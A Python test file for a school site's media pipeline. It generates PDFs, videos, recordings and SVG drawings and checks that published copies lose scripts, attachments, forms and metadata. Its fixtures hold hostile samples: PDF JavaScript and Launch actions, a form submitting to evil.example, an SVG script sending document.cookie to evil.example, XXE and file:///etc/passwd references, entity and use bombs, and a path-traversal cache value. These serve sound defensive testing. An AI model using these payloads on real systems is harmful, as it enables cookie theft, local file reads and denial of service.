"""Evidence besides photos: PDFs, videos, recordings and SVG drawings, made on the fly and published safely."""

from __future__ import annotations

import array
import hashlib
import io
import math
import shutil
import wave
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from fractions import Fraction
from pathlib import Path

import av
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from plp_site.media import (
    MediaLimits,
    MediaProblem,
    ProcessedMedia,
    kind_of,
    process_audio,
    process_drawing,
    process_media,
    process_pdf,
    process_video,
)
from plp_site.media.svg import clean_svg

GPS = "+48.8577+002.2950/"
STRUCTURAL_TAGS = {"major_brand", "minor_version", "compatible_brands"}  # what the MP4 header itself is, not tags
STREAM_TAGS = {"language": "und", "handler_name": {"VideoHandler", "SoundHandler"}, "vendor_id": "[0][0][0][0]"}


# ---- media made on the fly -------------------------------------------------------------------------------------


def _gps_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 29.0)}  # GPS IFD
    exif[0x013B] = "Ada Lovelace"  # Artist
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 40, 40)).save(out, "JPEG", exif=exif, comment=b"Ada's phone")
    return out.getvalue()


def _js(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _annot(subtype: Name, **keys: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 50, 50]), **keys)


def _add_hostile(pdf: pikepdf.Pdf, part: str) -> None:
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array()
    annots = page.Annots
    if part == "javascript":
        pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('open')"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), pdf.make_indirect(_js("y"))])))
        page.AA = Dictionary(O=_js("page open"))
    elif part == "launch":
        annots.append(_annot(Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe"))))
        annots.append(_annot(Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))))
        annots.append(_annot(Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=_js("z"))))
    elif part == "attachment":
        pdf.attachments["secret.txt"] = pikepdf.AttachedFileSpec(pdf, b"my password", mime_type="text/plain")
        annots.append(_annot(Name.FileAttachment, FS=pikepdf.AttachedFileSpec(pdf, b"more").obj))
    elif part == "form":
        submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
        widget = pdf.make_indirect(_annot(Name.Widget, FT=Name.Btn, T=String("send"), A=submit, AA=Dictionary(U=_js("u"))))
        annots.append(widget)
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp/>"))
    elif part == "metadata":
        with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
            meta["dc:creator"] = ["Ada Lovelace"]
        pdf.docinfo["/Author"] = "Ada Lovelace"
        pdf.docinfo["/Title"] = "Ada's secret draft"
    elif part == "photo":
        photo = pdf.make_stream(_gps_jpeg(), Type=Name.XObject, Subtype=Name.Image, Width=40, Height=30)
        photo.ColorSpace, photo.BitsPerComponent, photo.Filter = Name.DeviceRGB, 8, Name.DCTDecode
        page.Resources = Dictionary(XObject=Dictionary(Im0=photo))
        page.Contents = pdf.make_stream(b"q 400 0 0 300 100 300 cm /Im0 Do Q")


HOSTILE_PARTS = ("javascript", "launch", "attachment", "form", "metadata", "photo")


def make_pdf(path: Path, parts: tuple[str, ...] = (), pages: int = 1, link: bool = True) -> Path:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
    if link:
        pdf.pages[0].obj.Annots = Array([_annot(Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/a")))])
    for part in parts:
        _add_hostile(pdf, part)
    pdf.save(path)
    return path


def _tone(samples: int, rate: int, start: int = 0) -> bytes:
    return array.array("h", (int(6000 * math.sin(2 * math.pi * 440 * (start + i) / rate)) for i in range(samples))).tobytes()


def _mux_tone(out: av.container.OutputContainer, stream: av.audio.stream.AudioStream, seconds: float, rate: int) -> None:
    size = stream.codec_context.frame_size or 1152
    for start in range(0, int(seconds * rate), size):
        frame = av.AudioFrame(format="s16", layout="mono", samples=size)
        frame.planes[0].update(_tone(size, rate, start))
        frame.sample_rate, frame.pts = rate, start
        out.mux(stream.encode(frame))
    out.mux(stream.encode(None))


def make_video(
    path: Path,
    size: tuple[int, int] = (320, 240),
    seconds: float = 1.0,
    *,
    fmt: str = "mp4",
    rotation: int = 0,
    sound: bool = True,
    faststart: bool = False,
    live: bool = False,
) -> Path:
    """A tiny video with GPS and title tags, tagged streams and (in MP4) a data stream, as phones make them."""
    fps, rate = 10, 48_000
    options = {"movflags": "+faststart"} if faststart else {}
    if live:  # a browser's recording (a Chromebook's camera app): no length in the header at all
        options = {"live": "1"}
    with av.open(str(path), "w", format=fmt, container_options=options) as out:
        out.metadata.update({"location": GPS, "title": "Ada's robot", "artist": "Ada Lovelace"})
        video = out.add_stream("libvpx-vp9" if fmt == "webm" else "libx264", rate=fps)
        video.width, video.height, video.pix_fmt = *size, "yuv420p"
        video.metadata["title"] = "Ada's camera"
        if rotation:
            video.set_display_rotation(rotation)
        audio = out.add_stream("libopus" if fmt == "webm" else "aac", rate=rate) if sound else None
        if audio is not None:
            audio.layout = "mono"
            audio.metadata["title"] = "Ada's microphone"
        data = out.add_data_stream("bin_data") if fmt == "mp4" else None
        for i in range(int(seconds * fps)):
            frame = av.VideoFrame.from_image(Image.new("RGB", size, ((i * 37) % 256, 80, 160)))
            frame.pts = i
            out.mux(video.encode(frame))
        out.mux(video.encode(None))
        if audio is not None:
            _mux_tone(out, audio, seconds, rate)
        if data is not None:
            packet = av.Packet(GPS.encode())
            packet.stream, packet.pts, packet.dts, packet.time_base = data, 0, 0, Fraction(1, 1000)
            out.mux(packet)
    return path


def make_audio(path: Path, fmt: str, seconds: float = 1.0) -> Path:
    rate = 48_000
    if fmt == "wav":
        with wave.open(str(path), "wb") as w:
            w.setnchannels(1)
            w.setsampwidth(2)
            w.setframerate(rate)
            w.writeframes(_tone(int(seconds * rate), rate))
        return path
    codec = {"mp3": "libmp3lame", "ogg": "libopus", "ipod": "aac"}[fmt]
    with av.open(str(path), "w", format=fmt) as out:
        out.metadata.update({"artist": "Ada Lovelace", "location": GPS, "title": "Ada reads"})
        stream = out.add_stream(codec, rate=rate)
        stream.layout = "mono"
        _mux_tone(out, stream, seconds, rate)
    return path


SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str, size: str = 'width="200" height="100"', extra: str = "") -> str:
    return f'<svg {SVG_NS} {size} {extra}><rect width="100%" height="100%" fill="#2a7"/>{body}</svg>'


# ---- helpers that read what was published ------------------------------------------------------------------------


def _walk(pdf: pikepdf.Pdf) -> Iterator[Dictionary | pikepdf.Stream]:
    for obj in pdf.objects:
        stack: list[object] = [obj]
        while stack:
            item = stack.pop()
            if isinstance(item, Dictionary | pikepdf.Stream):
                yield item
                stack.extend(item[key] for key in item.keys() if _direct(item[key]))  # noqa: SIM118
            elif isinstance(item, Array):
                stack.extend(x for x in item if _direct(x))


def _direct(item: object) -> bool:
    return not (isinstance(item, pikepdf.Object) and item.is_indirect)


def _active_parts(path: Path) -> set[str]:
    """Everything in a PDF that could run, submit, carry a file or tell about its author."""
    found = set()
    with pikepdf.open(path) as pdf:
        if "/Info" in pdf.trailer:
            found.add("info")
        for d in _walk(pdf):
            found |= {
                key
                for key in ("/JS", "/JavaScript", "/AA", "/OpenAction", "/EmbeddedFiles", "/AcroForm", "/Metadata", "/AF")
                if key in d
            }
            if d.get("/S") in (Name.Launch, Name.SubmitForm, Name.JavaScript, Name.ImportData) or "/Next" in d:
                found.add("action")
            if d.get("/Subtype") in (Name.FileAttachment, Name.Widget) or d.get("/Type") == Name.EmbeddedFile:
                found.add("annotation")
            if d.get("/S") == Name.URI and not str(d.get("/URI")).startswith("https://"):
                found.add("uri")
            if isinstance(d, pikepdf.Stream) and d.get("/Filter") == Name.DCTDecode and b"Exif" in d.read_raw_bytes():
                found.add("exif")
    return found


def _links(path: Path) -> list[str]:
    with pikepdf.open(path) as pdf:
        return [str(d.A.URI) for d in _walk(pdf) if d.get("/Subtype") == Name.Link and "/A" in d]


def _assert_plain_jpeg(path: Path) -> None:
    with Image.open(path) as img:
        assert img.format == "JPEG"
        img.load()
        assert not {"exif", "comment", "icc_profile", "xmp"} & set(img.info)


def _assert_clean_av(path: Path, want: list[tuple[str, str]]) -> av.container.InputContainer:
    raw = path.read_bytes()
    assert b"48.8577" not in raw
    assert b"Ada" not in raw
    assert b"Lavf" not in raw  # no encoder tag either
    container = av.open(str(path))
    assert set(container.metadata) <= STRUCTURAL_TAGS
    assert sorted((s.type, s.codec_context.name) for s in container.streams) == sorted(want)
    for stream in container.streams:
        for key, value in stream.metadata.items():
            allowed = STREAM_TAGS.get(key)
            assert value == allowed or (isinstance(allowed, set) and value in allowed), (key, value)
    return container


def ok(result: ProcessedMedia | MediaProblem | None) -> ProcessedMedia:
    assert isinstance(result, ProcessedMedia), result
    return result


def problem(result: ProcessedMedia | MediaProblem | None, kind: str) -> MediaProblem:
    assert isinstance(result, MediaProblem), result
    assert result.kind == kind, result
    assert result.message
    assert result.hint
    assert "Error" not in result.message
    return result


# ---- kinds by name and content -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("essay.pdf", "pdf"),
        ("Essay.PDF", "pdf"),
        ("talk.mp4", "video"),
        ("robot.MOV", "video"),
        ("clip.m4v", "video"),
        ("screen.webm", "video"),
        ("song.m4a", "audio"),
        ("reading.mp3", "audio"),
        ("memo.wav", "audio"),
        ("note.ogg", "audio"),
        ("design.svg", "drawing"),
        ("IMG 2041.jpg", "image"),
        ("model.stl", None),
        ("project.zip", None),
        ("README", None),
    ],
)
def test_kind_of_follows_the_name(name: str, kind: str | None) -> None:
    assert kind_of(Path(name)) == kind


@pytest.mark.parametrize(
    ("make", "name", "expected"),
    [
        (lambda p: Image.new("RGB", (8, 8)).save(p, "JPEG"), "talk.mp4", "JPEG picture"),
        (make_pdf, "drawing.svg", "PDF document"),
        (make_pdf, "talk.mov", "PDF document"),
        (lambda p: p.write_text(svg("")), "essay.pdf", "SVG drawing"),
        (lambda p: make_audio(p, "wav"), "song.mp3", "WAV recording"),
        (lambda p: make_audio(p, "mp3"), "song.m4a", "MP3 recording"),
        (lambda p: Image.new("RGB", (8, 8)).save(p, "PNG"), "memo.wav", "PNG picture"),
    ],
)
def test_content_that_does_not_match_its_name_is_a_mismatch(
    tmp_path: Path, make: Callable[[Path], object], name: str, expected: str
) -> None:
    source = tmp_path / name
    make(source)
    found = problem(process_media(source, tmp_path / "cache"), "mismatch")
    assert expected in found.message
    assert "Rename it to" in found.hint


@pytest.mark.parametrize("content", [b"", b"\0" * 5000, b"hello, this is not a video", b"PK\x03\x04zipfile"])
@pytest.mark.parametrize("name", ["talk.mp4", "essay.pdf", "song.mp3", "drawing.svg"])
def test_empty_or_unknown_content_is_a_problem(tmp_path: Path, content: bytes, name: str) -> None:
    source = tmp_path / name
    source.write_bytes(content)
    result = process_media(source, tmp_path / "cache")
    assert isinstance(result, MediaProblem)
    assert result.kind in {"corrupt", "unsupported"}


def test_a_missing_file_is_a_problem(tmp_path: Path) -> None:
    problem(process_pdf(tmp_path / "gone.pdf", tmp_path / "cache"), "missing")


# ---- PDF -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("parts", [(part,) for part in HOSTILE_PARTS] + [HOSTILE_PARTS])
def test_a_pdf_is_published_without_active_content_files_forms_or_metadata(tmp_path: Path, parts: tuple[str, ...]) -> None:
    source = make_pdf(tmp_path / "essay.pdf", parts)
    assert _active_parts(source) or parts == ("photo",)  # the sample really is hostile
    media = ok(process_pdf(source, tmp_path / "cache"))
    assert media.kind == "pdf"
    assert media.pages == 1
    assert _active_parts(media.path) == set()
    assert b"Ada" not in media.path.read_bytes()
    assert "https://example.org/a" in _links(media.path)  # a plain link still works
    with pikepdf.open(media.path) as pdf:
        assert len(pdf.pages) == 1
        assert not pdf.is_encrypted
    assert media.poster is not None
    assert media.thumbnail is not None
    _assert_plain_jpeg(media.folder / media.poster.file)
    _assert_plain_jpeg(media.folder / media.thumbnail.file)
    assert max(media.thumbnail.width, media.thumbnail.height) == 320
    told = {p.kind for p in media.problems}
    assert told == ({"unsafe"} if set(parts) & {"javascript", "launch", "attachment", "form"} else set())
    assert all(not p.fatal for p in media.problems)


def test_the_pdf_thumbnail_shows_the_first_page(tmp_path: Path) -> None:
    source = make_pdf(tmp_path / "essay.pdf", ("photo",))
    media = ok(process_pdf(source, tmp_path / "cache"))
    assert media.poster is not None
    with Image.open(media.folder / media.poster.file) as img:
        assert img.height > img.width  # a portrait page
        red, green, _blue = img.convert("RGB").getpixel((img.width // 2, img.height // 3))
        assert red > 150 > green  # the red photo on the page, drawn


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.9])
def test_a_truncated_pdf_is_corrupt(tmp_path: Path, keep: float) -> None:
    whole = make_pdf(tmp_path / "whole.pdf", ("metadata",), pages=3).read_bytes()
    source = tmp_path / "essay.pdf"
    source.write_bytes(whole[: int(len(whole) * keep)])
    problem(process_pdf(source, tmp_path / "cache"), "corrupt")


def test_a_pdf_locked_with_a_password_is_a_problem(tmp_path: Path) -> None:
    source = tmp_path / "essay.pdf"
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(source, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    found = problem(process_pdf(source, tmp_path / "cache"), "unsupported")
    assert "password" in found.message


def test_pdf_limits_are_the_schools(tmp_path: Path) -> None:
    source = make_pdf(tmp_path / "essay.pdf", pages=4)
    found = problem(process_pdf(source, tmp_path / "cache", MediaLimits(pdf_pages=3)), "too-long")
    assert "4 pages" in found.message
    problem(process_pdf(source, tmp_path / "cache", MediaLimits(pdf_bytes=100)), "too-large")
    assert ok(process_pdf(source, tmp_path / "cache", MediaLimits(pdf_pages=4))).pages == 4
    # A lower limit holds for a file already in the cache, too.
    problem(process_pdf(source, tmp_path / "cache", MediaLimits(pdf_pages=2)), "too-long")


def test_concurrent_builds_share_one_entry(tmp_path: Path) -> None:
    source = make_pdf(tmp_path / "essay.pdf", HOSTILE_PARTS)
    with ThreadPoolExecutor(4) as pool:
        results = [ok(r) for r in pool.map(lambda _: process_pdf(source, tmp_path / "cache"), range(4))]
    assert len({r.folder for r in results}) == 1
    assert _active_parts(results[0].path) == set()
    leftovers = [p.name for p in (tmp_path / "cache").rglob("*") if p.name.startswith((".partial-", ".trash-"))]
    assert leftovers == []


# ---- video ---------------------------------------------------------------------------------------------------------


VIDEO_CASES = [
    ("robot.mp4", (320, 240), 0, "mp4", (320, 240)),
    ("talk.mp4", (1920, 1080), 0, "mp4", (1280, 720)),
    ("phone.mov", (1280, 720), -90, "mov", (720, 1280)),  # a phone held upright
    ("clip.m4v", (1000, 562), 180, "mp4", (1000, 562)),
    ("screen.webm", (426, 240), 0, "webm", (426, 240)),
]


@pytest.mark.parametrize("case", VIDEO_CASES, ids=[case[0] for case in VIDEO_CASES])
def test_a_video_becomes_a_small_web_mp4_without_metadata(
    tmp_path: Path, case: tuple[str, tuple[int, int], int, str, tuple[int, int]]
) -> None:
    name, size, rotation, fmt, shown = case
    source = make_video(tmp_path / name, size, fmt=fmt, rotation=rotation)
    media = ok(process_video(source, tmp_path / "cache"))
    assert (media.kind, media.file) == ("video", "video.mp4")
    assert (media.width, media.height) == shown
    assert media.duration == pytest.approx(1.0, abs=0.15)
    with _assert_clean_av(media.path, [("audio", "aac"), ("video", "h264")]) as out:
        video = out.streams.video[0]
        assert (video.width, video.height) == shown
        assert max(video.width, video.height) <= 1280
        assert video.width % 2 == video.height % 2 == 0
        assert video.codec_context.pix_fmt == "yuv420p"
        first = next(out.decode(video=0))
        assert first.rotation == 0  # turned for real, not by a tag
    assert media.path.read_bytes()[4:8] == b"ftyp"
    assert media.path.read_bytes().find(b"moov") < media.path.read_bytes().find(b"mdat")  # plays while it loads
    assert media.poster is not None
    _assert_plain_jpeg(media.folder / media.poster.file)
    assert (media.poster.width, media.poster.height) == shown


def test_a_video_without_sound_has_only_a_picture_stream(tmp_path: Path) -> None:
    media = ok(process_video(make_video(tmp_path / "silent.mp4", sound=False), tmp_path / "cache"))
    _assert_clean_av(media.path, [("video", "h264")]).close()


@pytest.mark.parametrize("faststart", [False, True])
@pytest.mark.parametrize("keep", [0.5, 0.8, 0.95])
def test_a_truncated_video_is_corrupt(tmp_path: Path, keep: float, faststart: bool) -> None:
    whole = make_video(tmp_path / "whole.mp4", seconds=2, faststart=faststart).read_bytes()
    source = tmp_path / "talk.mp4"
    source.write_bytes(whole[: int(len(whole) * keep)])
    problem(process_video(source, tmp_path / "cache"), "corrupt")


@pytest.mark.parametrize(("name", "live"), [("talk.mp4", False), ("screen.webm", False), ("recording.webm", True)])
@pytest.mark.parametrize("seconds", [2.0, 3.0])
def test_a_video_over_the_schools_length_limit_is_too_long(tmp_path: Path, seconds: float, name: str, live: bool) -> None:
    source = make_video(tmp_path / name, seconds=seconds, fmt=name.rsplit(".", 1)[1], live=live)
    if live:
        with av.open(str(source)) as claimed:
            assert claimed.duration is None  # only decoding can tell the length
    found = problem(process_video(source, tmp_path / "cache", MediaLimits(video_seconds=1)), "too-long")
    assert "1 minute" not in found.message
    assert "1 second" in found.message
    assert "school's video service" in found.hint


def test_video_size_limits_are_the_schools(tmp_path: Path) -> None:
    source = make_video(tmp_path / "talk.mp4", (640, 480))
    problem(process_video(source, tmp_path / "cache", MediaLimits(video_bytes=1000)), "too-large")
    problem(process_video(source, tmp_path / "cache", MediaLimits(video_pixels=320 * 240)), "too-large")


def test_a_recording_named_like_a_video_is_a_problem(tmp_path: Path) -> None:
    found = problem(process_video(make_audio(tmp_path / "talk.mp4", "ipod"), tmp_path / "cache"), "unsupported")
    assert ".m4a" in found.hint


@pytest.mark.parametrize(
    ("text", "published"),
    [
        ("WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n", True),
        ("\ufeffWEBVTT - my talk\r\n\r\n00:00.000 --> 00:01.000\r\nHola\r\n", True),
        ("WEBVTT\n\nSTYLE\n::cue { background: url(https://tracker.example/x.png) }\n\n00:00.000 --> 00:01.000\nHi\n", True),
        ("1\n00:00:00,000 --> 00:00:01,000\nThis is SRT, not WebVTT\n", False),
        ("\xff\xfe not text", False),
    ],
)
def test_captions_beside_a_video_are_checked_and_published(tmp_path: Path, text: str, published: bool) -> None:
    source = make_video(tmp_path / "talk.mp4")
    (tmp_path / "talk.vtt").write_bytes(text.encode("utf-8") if text.isprintable() or "\n" in text else text.encode("latin-1"))
    media = ok(process_video(source, tmp_path / "cache"))
    if published:
        assert media.captions == "captions.vtt"
        captions = (media.folder / "captions.vtt").read_text(encoding="utf-8")
        assert captions.startswith("WEBVTT")
        assert "url(" not in captions
        assert "\r" not in captions
        assert media.problems == ()
    else:
        assert media.captions is None
        assert [p.kind for p in media.problems] == ["unsupported"]
        assert not media.problems[0].fatal
        assert "talk.vtt" in media.problems[0].message


# ---- audio ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt"), [("memo.wav", "wav"), ("reading.mp3", "mp3"), ("note.ogg", "ogg"), ("song.m4a", "ipod")]
)
def test_a_recording_becomes_aac_without_tags(tmp_path: Path, name: str, fmt: str) -> None:
    media = ok(process_audio(make_audio(tmp_path / name, fmt), tmp_path / "cache"))
    assert (media.kind, media.file) == ("audio", "audio.m4a")
    assert media.duration == pytest.approx(1.0, abs=0.1)
    _assert_clean_av(media.path, [("audio", "aac")]).close()


def test_a_recording_over_the_limit_is_too_long(tmp_path: Path) -> None:
    source = make_audio(tmp_path / "memo.wav", "wav", seconds=2)
    problem(process_audio(source, tmp_path / "cache", MediaLimits(audio_seconds=1)), "too-long")
    problem(process_audio(source, tmp_path / "cache", MediaLimits(audio_bytes=1000)), "too-large")


# ---- SVG drawings --------------------------------------------------------------------------------------------------

HOSTILE_SVG = {
    "script": svg('<script>fetch("https://evil.example/?" + document.cookie)</script>'),
    "onload": svg("", extra='onload="alert(1)"'),
    "https image": svg('<image href="https://evil.example/track.png" width="50" height="50"/>'),
    "file url": svg('<image xlink:href="file:///etc/passwd" width="50" height="50"/>'),
    "absolute path": svg('<image href="{secret}" x="0" y="0" width="200" height="100"/>'),
    "relative path": svg('<image href="../secret.png" width="200" height="100"/>'),
    "css": svg('<style>@import url("https://evil.example/a.css"); circle {{ fill: url(https://e.example/x) }}</style>'),
    "foreign": svg(
        '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://e.example"/></foreignObject>'
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_SVG))
def test_an_svg_is_published_as_a_picture_without_scripts_or_outside_references(tmp_path: Path, name: str) -> None:
    secret = tmp_path / "secret.png"
    Image.new("RGB", (20, 20), (0, 0, 255)).save(secret)  # blue: it must never show up in the drawing
    source = tmp_path / "students" / "design.svg"
    source.parent.mkdir()
    source.write_text(HOSTILE_SVG[name].replace("{secret}", str(secret)).replace("{{", "{").replace("}}", "}"))
    cleaned = clean_svg(source.read_bytes()).text
    assert not any(word in cleaned for word in ("script", "onload", "https:", "file:", "secret", "@import", "iframe"))
    media = ok(process_drawing(source, tmp_path / "cache"))
    assert (media.kind, media.file) == ("drawing", "drawing.png")
    assert (media.width, media.height) == (800, 400)
    with Image.open(media.path) as img:
        assert img.format == "PNG"
        red, green, blue = img.convert("RGB").getpixel((100, 100))
        assert red < 60
        assert green > 140
        assert blue < 140  # the drawing's own green (#2a7), not the secret blue
    assert media.image is not None
    assert media.image.thumbnail.width == 320
    assert (media.image.folder / media.image.renditions[-1].file).is_file()
    assert [p.kind for p in media.problems] == ["unsafe"]
    assert not media.problems[0].fatal


@pytest.mark.parametrize(
    ("size", "shown"),
    [
        ('width="90000" height="30000"', (2000, 667)),
        ('viewBox="0 0 20 10"', (800, 400)),
        ('width="210mm" height="297mm"', (794, 1123)),
        ('width="1in" height="0.5in"', (800, 400)),
    ],
)
def test_the_drawing_size_is_bounded(tmp_path: Path, size: str, shown: tuple[int, int]) -> None:
    source = tmp_path / "design.svg"
    source.write_text(svg("", size=size))
    media = ok(process_drawing(source, tmp_path / "cache"))
    assert (media.width, media.height) == shown
    assert media.problems == ()


@pytest.mark.parametrize("size", ['width="1e9" height="1e9"', 'width="400000" height="10"', 'viewBox="0 0 1e12 1"'])
def test_a_giant_declared_drawing_is_too_large(tmp_path: Path, size: str) -> None:
    source = tmp_path / "design.svg"
    source.write_text(svg("", size=size))
    problem(process_drawing(source, tmp_path / "cache"), "too-large")


def _use_bomb(levels: int) -> str:
    groups = "".join(f'<g id="a{i}">' + f'<use href="#a{i - 1}"/>' * 10 + "</g>" for i in range(1, levels))
    return svg(f'<defs><rect id="a0" width="1" height="1"/>{groups}</defs><use href="#a{levels - 1}"/>')


def _entity_bomb() -> str:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {c} "{f"&{p};" * 10}">' for p, c in zip("abcdefg", "bcdefgh", strict=True)
    )
    return f'<?xml version="1.0"?><!DOCTYPE svg [{entities}]>' + svg("<text>&h;</text>")


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (_use_bomb(8), "unsafe"),
        (svg("<g>" * 400 + "</g>" * 400), "unsafe"),
        (_entity_bomb(), "corrupt"),
        ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"), "corrupt"),
        (svg("<rect"), "corrupt"),
        ('<svg xmlns="http://www.w3.org/2000/svg" width="0" height="10"/>', "corrupt"),
    ],
)
def test_a_drawing_too_costly_or_broken_is_a_problem(tmp_path: Path, text: str, kind: str) -> None:
    source = tmp_path / "design.svg"
    source.write_text(text)
    problem(process_drawing(source, tmp_path / "cache"), kind)


# ---- the cache -----------------------------------------------------------------------------------------------------

MAKERS: dict[str, tuple[str, Callable[[Path], object], Callable[..., ProcessedMedia | MediaProblem]]] = {
    "pdf": ("essay.pdf", lambda p: make_pdf(p, HOSTILE_PARTS), process_pdf),
    "video": ("talk.mp4", make_video, process_video),
    "audio": ("memo.wav", lambda p: make_audio(p, "wav"), process_audio),
    "drawing": ("design.svg", lambda p: p.write_text(svg("<script>x</script>")), process_drawing),
}


@pytest.mark.parametrize("kind", sorted(MAKERS))
@pytest.mark.parametrize("then", ["keep", "delete", "replace"])
def test_a_cache_hit_does_not_decode_the_source(tmp_path: Path, kind: str, then: str) -> None:
    name, make, process = MAKERS[kind]
    source = tmp_path / name
    make(source)
    first = ok(process(source, tmp_path / "cache"))
    assert not first.from_cache
    digest = hashlib.sha256(source.read_bytes()).hexdigest()
    if then == "delete":
        source.unlink()
    elif then == "replace":
        source.write_bytes(b"\0" * 100)  # would be a problem if it were read at all
    second = ok(process(source, tmp_path / "cache", digest=digest) if then != "keep" else process(source, tmp_path / "cache"))
    assert second.from_cache
    assert (second.folder, second.file, second.width, second.height, second.duration) == (
        first.folder,
        first.file,
        first.width,
        first.height,
        first.duration,
    )
    assert [p.kind for p in second.problems] == [p.kind for p in first.problems]  # told again on every build


@pytest.mark.parametrize("damage", ["meta", "file", "folder"])
def test_a_damaged_cache_entry_is_made_again(tmp_path: Path, damage: str) -> None:
    source = make_pdf(tmp_path / "essay.pdf")
    first = ok(process_pdf(source, tmp_path / "cache"))
    if damage == "meta":
        (first.folder / "meta.json").write_text('{"pipeline": "1", "file": "../../etc/passwd"}')
    elif damage == "file":
        (first.folder / "poster.jpg").unlink()
    else:
        shutil.rmtree(first.folder)
    again = ok(process_pdf(source, tmp_path / "cache"))
    assert not again.from_cache
    assert again.folder == first.folder
    assert (again.folder / "poster.jpg").is_file()
